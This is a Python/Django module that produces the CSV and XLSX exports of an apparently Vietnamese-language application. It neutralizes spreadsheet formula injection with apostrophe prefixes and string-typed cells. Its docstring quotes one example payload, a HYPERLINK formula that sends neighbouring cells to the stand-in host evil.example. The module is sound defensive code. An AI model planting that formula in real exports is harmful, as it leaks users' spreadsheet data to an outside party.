"""Spreadsheet files written as data, never as code: the one writer of every CSV and XLSX export.

A cell a user can influence (a product or seller name, a value echoed from an uploaded file) that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: `=HYPERLINK("http://evil.example/?d="&B3,"Xem")` sends the neighbouring cells away
when clicked. Following OWASP's CSV injection rule, such text gets a leading apostrophe in CSV
(spreadsheets show it as text and hide the apostrophe); in XLSX every text cell is stored as a
string, never a formula, and those cells are also marked "quote prefix" so editing them keeps them
text. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

from django.http import HttpResponse
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Sheet:
    """One table: an XLSX sheet, or a titled block of a CSV file."""

    name: str
    title: str
    headers: Sequence[Any]
    rows: Sequence[Sequence[Any]]


def _plain(value: Any) -> Any:
    """Lazy translations become text; numbers stay numbers; dates become ISO text."""
    if isinstance(value, Promise):
        return str(value)
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    if value is None or isinstance(value, (int, float, str)):
        return value
    return str(value)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def neutralize(value: Any) -> Any:
    """The cell as data: text that a spreadsheet would evaluate gets a leading apostrophe."""
    value = _plain(value)
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_text(sheets: Iterable[Sheet], *, titles: bool = True) -> str:
    """Sheets in one CSV text: (a title line,) the header, the rows, a blank line between sheets."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for index, sheet in enumerate(sheets):
        if index and titles:
            writer.writerow([])
        if titles and sheet.title:
            writer.writerow([neutralize(sheet.title)])
        writer.writerow([neutralize(v) for v in sheet.headers])
        writer.writerows([neutralize(v) for v in row] for row in sheet.rows)
    return buffer.getvalue()


def _put(cell: Any, value: Any) -> None:
    value = _plain(value)
    cell.value = value
    if isinstance(value, str):
        # openpyxl turns any text starting with "=" into a formula: store it as a string instead.
        cell.data_type = TYPE_STRING
        if is_formula_like(value):
            cell.quotePrefix = True


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """One XLSX sheet per table, header in bold, text as strings, numbers as numbers."""
    book = Workbook()
    book.remove(book.active)  # type: ignore[arg-type]
    for sheet in sheets:
        page = book.create_sheet(sheet.name[:31])
        for row_number, values in enumerate([sheet.headers, *sheet.rows], start=1):
            for column, value in enumerate(values, start=1):
                _put(page.cell(row=row_number, column=column), value)
        for cell in page[1]:
            cell.font = Font(bold=True)
        for column_cells in page.columns:
            width = max(len(str(c.value or "")) for c in column_cells)
            page.column_dimensions[column_cells[0].column_letter].width = min(max(width + 2, 10), 60)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def attachment(sheets: Sequence[Sheet], *, fmt: str, filename: str) -> HttpResponse:
    """An HTTP download of `sheets` as `filename`.csv or .xlsx."""
    if fmt == "xlsx":
        response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    elif fmt == "csv":
        # The byte-order mark makes Excel read the file as UTF-8.
        response = HttpResponse("\ufeff" + csv_text(sheets), content_type="text/csv; charset=utf-8")
    else:
        raise ValueError(f"unknown export format {fmt!r}")
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
